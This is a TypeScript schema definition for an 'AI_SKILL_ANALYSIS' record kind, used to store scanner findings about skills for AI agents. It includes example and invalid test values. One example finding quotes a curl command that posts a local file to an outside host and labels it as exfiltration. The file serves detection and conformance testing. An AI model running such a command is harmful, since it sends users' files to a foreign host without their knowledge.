import { exampleResource as resource } from './common/example.js';
import { repeated } from './field-types.js';
import { defineKind } from './kind.js';
import { field, message } from './message.js';
import { text } from './scalars.js';

/** AI_SKILL_ANALYSIS: what was found in a skill for AI agents (conformance 3.12). */

export const AiSkillAnalysisNote = message(
  'grafeas.v1beta1.aiskillanalysis.AISkillAnalysisNote',
  'A sort of analysis of skills.',
  {},
);

const Finding = message(
  'grafeas.v1beta1.aiskillanalysis.AISkillAnalysisOccurrence.Finding',
  'One thing that was found.',
  {
    ruleId: field(1, text(), 'Rule that found it.'),
    category: field(2, text(), 'What sort of finding it is.'),
    severity: field(3, text(), 'How bad it is, in the words of the tool.'),
    title: field(4, text(), 'One sentence.'),
    description: field(5, text(), 'The whole story.'),
    filePath: field(6, text(), 'File it was found in.'),
    snippet: field(7, text(), 'What stands there.'),
  },
);

export const AiSkillAnalysisOccurrence = message(
  'grafeas.v1beta1.aiskillanalysis.AISkillAnalysisOccurrence',
  'What was found in a skill.',
  {
    skillName: field(1, text(), 'Name of the skill.'),
    findings: field(2, repeated(Finding), 'Each finding.'),
  },
);

const noteName = 'projects/scanners/notes/skills';
const occurrence = (aiSkillAnalysis: unknown) => ({ resource, noteName, aiSkillAnalysis });

export const aiSkillAnalysis = defineKind({
  name: 'AI_SKILL_ANALYSIS',
  number: 16,
  doc: 'A skill for AI agents was examined.',
  note: { member: 'aiSkillAnalysis', number: 25, message: AiSkillAnalysisNote },
  occurrence: { member: 'aiSkillAnalysis', number: 23, message: AiSkillAnalysisOccurrence },
  searchable: [
    { of: 'occurrence', path: 'aiSkillAnalysis.skillName' },
    { of: 'occurrence', path: 'aiSkillAnalysis.findings.ruleId' },
    { of: 'occurrence', path: 'aiSkillAnalysis.findings.severity' },
    { of: 'occurrence', path: 'aiSkillAnalysis.findings.category' },
  ],
  findings: true,
  examples: {
    notes: [{ value: { shortDescription: 'Examination of skills.', aiSkillAnalysis: {} } }],
    occurrences: [
      {
        value: occurrence({
          skillName: 'release-notes',
          findings: [
            {
              ruleId: 'exfiltration-1',
              category: 'exfiltration',
              severity: 'HIGH',
              title: 'Sends files to a foreign host.',
              filePath: 'SKILL.md',
              snippet: 'curl -d @notes.txt https://example.com',
            },
          ],
        }),
      },
    ],
    invalid: [
      { of: 'note', path: 'ai_skill_analysis.skillName', value: { aiSkillAnalysis: { skillName: 'a' } } },
      { of: 'occurrence', path: 'ai_skill_analysis.findings', value: occurrence({ findings: {} }) },
      {
        of: 'occurrence',
        path: 'ai_skill_analysis.findings[0].severity',
        value: occurrence({ findings: [{ severity: 4 }] }),
      },
    ],
  },
});
